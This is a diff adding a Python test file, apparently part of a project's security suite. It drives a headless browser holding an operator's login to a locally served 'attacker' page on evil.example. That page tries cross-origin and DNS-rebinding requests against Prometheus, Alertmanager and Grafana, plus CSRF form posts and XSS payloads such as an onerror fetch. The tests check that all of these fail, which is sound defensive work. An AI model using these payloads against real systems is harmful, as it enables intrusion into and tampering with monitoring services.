@@ -1,0 +1,180 @@
+"""A real browser of somebody with the operators' login, led to a page of an attacker's."""
+
+import http.server
+import json
+import shutil
+import subprocess
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from datetime import UTC, datetime
+from pathlib import Path
+from urllib.parse import unquote
+
+import httpx
+import pytest
+
+from tests.attacks import share
+from tests.attacks.inputs.pages import DOCUMENTS, MARK, PAGES
+from tests.attacks.sending import Attackers
+from tests.edge.test_pages import BROWSERS
+from tests.stack import Stack, eventually
+
+PORTS = ("PROMETHEUS_PORT", "ALERTMANAGER_PORT", "GRAFANA_PORT")
+RUN = """<!doctype html><title>kittens</title><body><iframe name=sink></iframe><script>
+const pause = (ms) => new Promise((done) => setTimeout(done, ms));
+const tell = (name, got) => fetch('/told?' + encodeURIComponent(JSON.stringify([name, String(got)])), {method: 'POST'});
+const tried = [%s];
+(async () => {
+  for (const login of %s) { window.open(login); }
+  await pause(2000);
+  for (const [name, run] of tried) {
+    let got = '';
+    try { got = await Promise.race([run(), pause(5000).then(() => '')]); } catch (_) {}
+    await tell(name, got ?? '');
+  }
+  await tell('over', '');
+})();
+</script>"""
+pytestmark = pytest.mark.timeout(600)
+
+
+class Page(http.server.ThreadingHTTPServer):
+    """The attacker's own server: one page, and what it tells."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__(("127.0.0.1", 0), Handler)
+        self.text = text
+        self.told: dict[str, str] = {}
+
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    """Serves it."""
+
+    server: Page
+
+    def do_GET(self) -> None:
+        self.answer(200, self.server.text.encode())
+
+    def do_POST(self) -> None:
+        name, got = json.loads(unquote(self.path.partition("?")[2]))
+        self.server.told[name] = got
+        self.answer(204, b"")
+
+    def answer(self, status: int, content: bytes) -> None:
+        self.send_response(status)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(content)))
+        self.end_headers()
+        self.wfile.write(content)
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+@contextmanager
+def page(text: str) -> Iterator[Page]:
+    """Serve a page for a `with` block."""
+    with Page(text) as server:
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield server
+        server.shutdown()
+
+
+@contextmanager
+def browser(profile: Path, url: str, *options: str) -> Iterator[None]:
+    """Have a browser of its own load an address, for a `with` block."""
+    program = next(filter(None, map(shutil.which, BROWSERS)), None)
+    assert program is not None, "no Chromium: scripts/draw.sh installs it"
+    command = [
+        program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-popup-blocking",
+        "--ignore-certificate-errors", f"--user-data-dir={profile}", "--remote-debugging-port=0", *options, url,
+    ]  # fmt: skip
+    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
+        try:
+            yield
+        finally:
+            process.terminate()
+
+
+def scripted(stack: Stack, host: str) -> str:
+    """Return the page that tries everything against the door as `host` leads to it, with the login in the browser."""
+    ports = json.dumps({name: stack.settings[name] for name in PORTS})
+    door = f"const ports = {ports}; const door = (name, path) => `http://{host}:${{ports[name]}}${{path}}`;"
+    tried = ",".join(f"[{json.dumps(name)}, async () => {{ {door} {script} }}]" for name, script in PAGES.items())
+    logins = [stack.operators_url(name).replace("//", f"//{stack.operator}@") + "/" for name in PORTS[:2]]
+    return RUN % (tried, json.dumps(logins))
+
+
+PLACES = {
+    "evil.example, asking its own name, which leads here by now": ("evil.example", "evil.example"),
+    "evil.example, asking 127.0.0.1": ("evil.example", "127.0.0.1"),
+    "evil.example, asking localhost": ("evil.example", "localhost"),
+    "another port of 127.0.0.1": ("127.0.0.1", "127.0.0.1"),
+}
+"""Where a page is, and by which name it asks."""
+
+
+@pytest.mark.parametrize("place", share(list(PLACES), len(PLACES)))
+def test_no_page_reads_or_changes_anything(stack: Stack, tmp_path: Path, place: str) -> None:
+    own, door = PLACES[place]
+    started = stack.value("prometheus_config_last_reload_success_timestamp_seconds")
+    with page(scripted(stack, door)) as server:
+        url = f"http://{own}:{server.server_address[1]}/"
+        with browser(tmp_path / "profile", url, "--host-resolver-rules=MAP evil.example 127.0.0.1"):
+            eventually(lambda: "over" in server.told, lambda: server.told, deadline=300)
+    assert {name: got for name, got in server.told.items() if got} == {}
+    assert set(PAGES) < set(server.told)
+    alertmanager = stack.alertmanager_url
+    assert httpx.get(f"{alertmanager}/api/v2/silences").json() == []
+    names = {alert["labels"]["alertname"] for alert in httpx.get(f"{alertmanager}/api/v2/alerts").json()}
+    assert "Forged" not in names
+    assert stack.value("prometheus_config_last_reload_success_timestamp_seconds") == started
+
+
+def test_the_browser_had_the_login(stack: Stack, tmp_path: Path) -> None:
+    """What is refused above is refused to somebody who may."""
+    with page("") as server:
+        server.text = RUN % ("", json.dumps([f"{stack.alertmanager_url}/api/v2/status/kept"]))
+        since = f"{datetime.now(UTC).timestamp():.3f}"
+        with browser(tmp_path / "profile", f"http://127.0.0.1:{server.server_address[1]}/"):
+            eventually(
+                lambda: '"user":"operator"' in stack.compose("logs", "--since", since, "operators").stdout,
+                lambda: stack.logs("operators"),
+            )
+
+
+def test_no_result_runs_in_the_browser(stack: Stack, attackers: Attackers, tmp_path: Path) -> None:
+    """A page leads there by frames, windows and forms; what is shown would run as the API's own origin."""
+    origin = stack.https_url
+    results = []
+    with attackers.client() as client:
+        for name, (kind, text) in DOCUMENTS.items():
+            made = client.post("/api/v1/jobs", content=text, headers={"Content-Type": kind})
+            if made.status_code != 202:
+                assert (name, made.status_code) == (name, 415)
+                continue
+            where = made.headers["location"]
+            eventually(lambda where=where: client.get(where).json().get("status") == "succeeded")  # type: ignore[misc]
+            results.append(f"{where}/result")
+    assert len(results) >= 6
+    frames = "".join(f'<iframe src="{origin}{path}"></iframe><embed src="{origin}{path}">' for path in results)
+    opened = ";".join(f"window.open('{origin}{path}')" for path in results)
+    forms = "".join(
+        f'<form method=post enctype=text/plain target=_blank action="{origin}/api/v1/{route}"><textarea name="{text}">'
+        "</textarea></form>"
+        for route in ("process", "predict", "jobs")
+        for text in (f"<script>fetch('{MARK}')</script>", "<!doctype html><img src=x onerror=fetch('/it-ran')>")
+    )
+    run = "onload=\"%s;for (const form of document.forms) form.submit();setTimeout(() => fetch('/told?' + "
+    run += "encodeURIComponent(JSON.stringify(['over', ''])), {method: 'POST'}), 6000)\""
+    since = f"{datetime.now(UTC).timestamp():.3f}"
+    with (
+        page(f"<!doctype html><body {run % opened}>{frames}{forms}") as server,
+        browser(tmp_path / "profile", f"http://127.0.0.1:{server.server_address[1]}/"),
+    ):
+        eventually(lambda: "over" in server.told, lambda: server.told)
+    seen = stack.compose("logs", "--no-color", "--since", since, "nginx").stdout
+    assert f"{results[0]}" in seen
+    assert MARK not in seen
